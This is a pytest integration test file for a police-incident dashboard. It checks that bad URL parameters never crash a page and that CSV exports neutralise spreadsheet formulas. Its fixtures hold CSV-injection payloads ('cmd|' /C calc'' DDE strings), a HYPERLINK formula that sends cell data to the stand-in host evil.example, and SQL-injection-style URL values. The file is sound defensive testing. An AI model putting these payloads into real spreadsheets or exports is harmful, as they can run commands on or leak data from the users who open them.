"""What a link or an imported file can put on a manager's page: never a traceback, never a formula.

Bad URL values on every page (AppTest, the real engine) end in a page that says what it did with
them. A CAD export whose call types and beats are spreadsheet formulas is imported by mapping, as a
department would, and the incidents page's own CSV download (the bytes the button serves) holds
them as text a spreadsheet will not run (OWASP "CSV Injection").
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
from pathlib import Path

import pytest
import streamlit as st
from click.testing import CliRunner

from dozor.access import Scope
from dozor.cli import cli
from dozor.clickhouse import connect
from dozor.dashboard.i18n import t
from dozor.dashboard.tables import csv_bytes, csv_cell
from dozor.infra.migrate import migrate
from tests.helpers.apptest import page_as
from tests.helpers.examples import EXAMPLES
from tests.helpers.stack import WORKER

pytestmark = pytest.mark.integration

APP = Path(__file__).resolve().parents[2] / "dashboard" / "app.py"
ANALYST = Scope("analyst@mvd.kz", "ministry_analyst", None, integrity=True, audit=True)

BAD_LINKS = [
    {"range": "custom", "from": "0001-01-01", "to": "9999-12-31"},
    {"range": "custom", "from": "2024-02-30", "to": "yesterday"},
    {"range": "custom", "from": "1900-01-01", "to": "1900-01-02"},
    {"range": "nonsense", "city": "atlantis", "district": "x" * 5000, "lang": "xx"},
    {"day": "0001-01-01", "page": "-99999999999999999999", "sort": "DROP TABLE", "desc": "2"},
    {"day": "+10000-01-01", "page": "1e309", "type": "=cmd", "category": "'; --", "priority": "0,9,NaN"},
    {"from": "2026-13", "to": "99999-1"},
]


@pytest.mark.parametrize("page", ["compstat", "trends", "responses", "incidents", "integrity", "audit"])
@pytest.mark.parametrize("link", BAD_LINKS, ids=[f"link{i}" for i in range(len(BAD_LINKS))])
def test_a_bad_link_gives_a_page_never_a_traceback(settings_factory, monkeypatch, page, link):
    settings = settings_factory()
    migrate(settings)
    at = page_as(settings, monkeypatch, ANALYST, APP, timeout_s=60, **link)
    at.switch_page(f"app_pages/{page}.py")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    # A page that reads a date from the link says what it used instead.
    asked = {"trends": "from", "responses": "from", "incidents": "from", "compstat": "day"}.get(page)
    if asked and link.get(asked) == "0001-01-01":
        notes = " ".join(i.value for i in at.info)
        assert f"{asked}=0001-01-01" in notes and settings.earliest_event_date.isoformat() in notes, notes


@pytest.mark.parametrize(
    ("cell", "neutral"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+cmd|' /C notepad'!'A1'", "'+cmd|' /C notepad'!'A1'"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12", "-12"),
        ("+3.5", "+3.5"),
        ("-2.1%", "-2.1%"),
        (-7, -7),
        ("B1", "B1"),
    ],
)
def test_a_csv_cell_never_starts_a_formula_and_numbers_stay_numbers(cell, neutral):
    assert csv_cell(cell) == neutral
    back = next(csv.reader(io.StringIO(csv_bytes([{"h": cell}]).decode("utf-8-sig").split("\n", 1)[1])))
    assert back == [str(neutral)]


FORMULAS = {
    "C1": ('=HYPERLINK("http://evil.example/?q="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0"),
    "C2": ("+cmd|' /C notepad'!'A1'", "-1+1+cmd|' /C calc'!A0"),
}


def _cad_with_formulas(path: Path) -> None:
    """A CAD log (docs/examples/cad_calls.csv's columns) whose call types and beats are formulas."""
    lines = [(EXAMPLES / "cad_calls.csv").read_text().splitlines()[0]]
    day = dt.date.today() - dt.timedelta(days=2)
    for i, (iid, (code, beat)) in enumerate(FORMULAS.items()):
        times = [f"10:0{i}", f"10:1{i}", f"10:2{i}", f"11:0{i}"]
        row = [iid, day.strftime("%m/%d/%y"), *times, "1A12", code, "1", "911", "51.1282", "71.4307", beat]
        buf = io.StringIO()
        w = csv.writer(buf)
        w.writerow(row)
        lines.append(buf.getvalue().strip())
    path.write_text("\n".join(lines) + "\n")


def test_formulas_from_an_imported_export_reach_the_csv_as_text(
    settings_factory, start_service, monkeypatch, tmp_path
):
    settings = settings_factory()
    migrate(settings)
    export = tmp_path / "cad.csv"
    _cad_with_formulas(export)
    mapping = tmp_path / "cad.toml"
    text = (EXAMPLES / "cad_calls.toml").read_text()
    mapping.write_text(
        text.replace('file = "astana_beats.geojson"', f'file = "{EXAMPLES / "astana_beats.geojson"}"')
    )
    start_service(WORKER, settings, "worker")
    r = CliRunner().invoke(cli, ["replay", str(export), "--mapping", str(mapping)], env=settings.to_env())
    assert r.exit_code == 0, r.output
    c = connect(settings)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and c.command("SELECT count() FROM incident_events") < 2 * len(
        FORMULAS
    ):
        time.sleep(0.5)
    stored = dict(c.query("SELECT incident_id, any(source_code) FROM incident_events GROUP BY 1").result_rows)
    assert stored == {iid: code for iid, (code, _) in FORMULAS.items()}, "stored as the file has them"

    served: list[bytes] = []
    real = st.download_button

    def capture(label, data, *args, **kwargs):  # the bytes the page's button would serve
        if kwargs.get("key") == "dozor_inc_csv":
            served.append(data)
        return real(label, data, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", capture)
    day = dt.date.today() - dt.timedelta(days=2)
    at = page_as(settings, monkeypatch, ANALYST, APP, timeout_s=60, lang="en", city="astana", range="custom",
                 **{"from": day.isoformat(), "to": day.isoformat()})  # fmt: skip
    at.switch_page("app_pages/incidents.py")
    at.run()
    assert not at.exception, at.exception
    rows = list(csv.DictReader(io.StringIO(served[-1].decode("utf-8-sig"))))
    by_id = {r[t("col_id", "en")]: r for r in rows}
    assert set(by_id) == set(FORMULAS)
    for iid, (code, beat) in FORMULAS.items():
        row = by_id[iid]
        assert row[t("col_source_code", "en")] == "'" + code
        assert row[t("col_source_area", "en")] == "'" + beat
        assert not [v for v in row.values() if v.startswith(("=", "+", "-", "@", "\t", "\r"))], row
        assert row[t("col_priority", "en")] == "2"  # a number stays a number
